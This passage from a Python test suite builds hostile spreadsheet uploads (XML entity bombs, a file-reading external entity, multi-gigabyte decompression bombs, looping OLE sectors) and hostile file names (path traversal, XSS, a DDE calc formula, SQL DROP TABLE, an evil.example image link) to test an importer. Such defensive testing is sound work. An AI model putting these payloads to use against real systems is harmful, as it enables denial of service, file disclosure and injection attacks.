    yield book(
        "a hundred columns and a far row",
        lambda: raw_book(_titles(b'<row r="2">', _inline("CV2", "x"), b"</row>", _a_row(1_048_576))),
        None,
    )
    yield book(
        "thirty columns and a far row",
        lambda: raw_book(_titles(b'<row r="2">', _inline("AD2", "x"), b"</row>", _a_row(1_048_576))),
        None,
    )
    yield book(
        "a cell beyond the sheet",
        lambda: raw_book(_titles(b'<row r="2">', _inline("ZZZZ99999999", "x"), b"</row>")),
    )
    yield book("a cell at row 0", lambda: raw_book(_titles(b'<row r="0">', _inline("A0", "x"), b"</row>")))
    yield book(
        "cells without a place",
        lambda: raw_book([b'<row><c t="inlineStr"><is><t>Company</t></is></c></row>'] * 3),
    )
    yield book("entities that laugh", lambda: raw_book(_titles(_a_row(2, "&c;" * 50)), prolog=laughs))
    yield book("an entity that reads a file", lambda: raw_book(_titles(_a_row(2, "&c;")), prolog=reads))
    yield book(
        "a string that is not there",
        lambda: raw_book(_titles(b'<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>')),
    )
    yield book(
        "a number of 5,000 digits",
        lambda: raw_book(_titles(b'<row r="2"><c r="A2"><v>' + b"9" * 5_000 + b"</v></c></row>")),
    )
    yield book(
        "a date of 1e300",
        lambda: raw_book(
            _titles(b'<row r="2"><c r="A2" t="d"><v>99999-99-99</v></c><c r="B2"><v>1e300</v></c></row>')
        ),
    )
    yield book("cut", lambda: good[: len(good) // 2])
    yield book("with changed bytes", lambda: good[:400] + b"\xff" * 40 + good[440:])
    yield book(
        "no sheet", lambda: zipped(("[Content_Types].xml", _TYPES), ("xl/workbook.xml", b"<workbook/>"))
    )
    yield book("formulas and links", _formulas, 5)
    yield book("200 sheets", lambda: _many_sheets(200), is_quick=False)
    yield book("20,000 merged columns", lambda: _merged(20_000), is_quick=False)
    yield book(
        "500 MB of blank rows", lambda: raw_book(_titles(*_zeros(500, b"<row></row>"))), is_quick=False
    )
    yield book(
        "190 MB in one string",
        lambda: raw_book(
            _titles(b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>'),
            [b"<si><t>", *_zeros(190, b"a"), b"</t></si>"],
        ),
        is_quick=False,
    )
    yield book(
        "190 MB of short strings",
        lambda: raw_book(_titles(_a_row(2)), _zeros(190, b"<si><t>a</t></si>")),
        is_quick=False,
    )
    yield book(
        "190 MB of one string used",
        lambda: raw_book(
            _titles(*_zeros(190, b'<row><c t="s"><v>0</v></c></row>')), [b"<si><t>Acme</t></si>"]
        ),
        is_quick=False,
    )
    yield book("5 GB in one sheet", lambda: raw_book(_titles(*_zeros(5_000, b" "))), is_quick=False)
    yield book(
        "one cell of 40 MB",
        lambda: raw_book(
            _titles(b'<row r="2"><c r="A2" t="inlineStr"><is><t>', *_zeros(40, b"a"), b"</t></is></c></row>")
        ),
        is_quick=False,
    )
    yield book(
        "an 800 KB cell in each of 200 rows",
        lambda: raw_book(
            _titles(*(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>'.encode() for n in range(2, 202))),
            [b"<si><t>", b"ab " * 266_000, b"</t></si>"],
        ),
        is_quick=False,
    )
    yield _file(
        "B28",
        "xls: noise behind its mark",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(5).randbytes(40_000),
        name="jobs.xls",
    )
    yield _file("B28", "xls: a mark alone", b"\xd0\xcf\x11\xe0", name="jobs.xls")
    yield _file("B28", "xls: sectors in a ring", _ring_of_sectors, name="jobs.xls")


def _merged(columns: int) -> bytes:
    merges = b"".join(f'<mergeCell ref="A{2 + n}:A1048576"/>'.encode() for n in range(columns))
    content = raw_book(_titles(_a_row(2)))
    members = {}
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        for name in opened.namelist():
            members[name] = opened.read(name)
    sheet = "xl/worksheets/sheet1.xml"
    members[sheet] = members[sheet].replace(
        b"</sheetData>", b"</sheetData><mergeCells>" + merges + b"</mergeCells>"
    )
    return zipped(*members.items())


def _ring_of_sectors() -> bytes:
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", head, 44, 1, 1, 0, 4096, 0, 1, 0, 1, 0)
    struct.pack_into("<I", head, 76, 0)
    return bytes(head) + struct.pack("<I", 0) * 128 * 4  # every sector says that it is followed by the first


def _open_documents() -> Iterator[HostileFile]:
    names = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:'
        'xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    )
    manifest = (
        b'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        b'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>'
    )

    def document(rows: str) -> bytes:
        body = f'<?xml version="1.0"?><office:document-content {names}><office:body><office:spreadsheet><table:table table:name="Jobs">{rows}</table:table></office:spreadsheet></office:body></office:document-content>'
        return zipped(
            ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
            ("content.xml", body.encode()),
            ("META-INF/manifest.xml", manifest),
        )

    def row(*cells: str, times: str = "1") -> str:
        return f'<table:table-row table:number-rows-repeated="{times}">{"".join(cells)}</table:table-row>'

    def cell(text: str, times: str = "1") -> str:
        return f'<table:table-cell table:number-columns-repeated="{times}" office:value-type="string"><text:p>{text}</text:p></table:table-cell>'

    titles, million = row(*map(cell, HEADER.split(","))), "1000000"
    for what, rows in {
        "a cell a million times": row(cell("x", million)),
        "a row a million times": row(cell("Acme"), cell("Chef"), times=million),
        "a million times a million": row(cell("x", million), times=million),
        "a row minus one times": row(cell("Acme"), times="-1"),
        "4 billion blank rows": row("<table:table-cell/>", times="4294967295"),
    }.items():
        yield _file(
            "B28", f"ods: {what}", lambda rows=titles + rows: document(rows), name="jobs.ods", is_quick=False
        )


def _names() -> Iterator[HostileFile]:
    for name in (
        "../../../etc/passwd",
        "C:\\Windows\\win.ini",
        "<img src=x onerror=alert(1)>.csv",
        "![x](http://evil.example/x.png).csv",
        "\u202evsc.exe",
        "a\nb\r\nSet-Cookie: x=1.csv",
        "nul\0.csv",
        "x" * 5_000 + ".csv",
        "=cmd|' /C calc'!A0.csv",
        "'; DROP TABLE imports; --.csv",
        "",
    ):
        yield _file("B29", f"file name {name[:30]!a}", table(), 5, name=name)
    yield _file("B30", "the same file twice", table(50), 50)
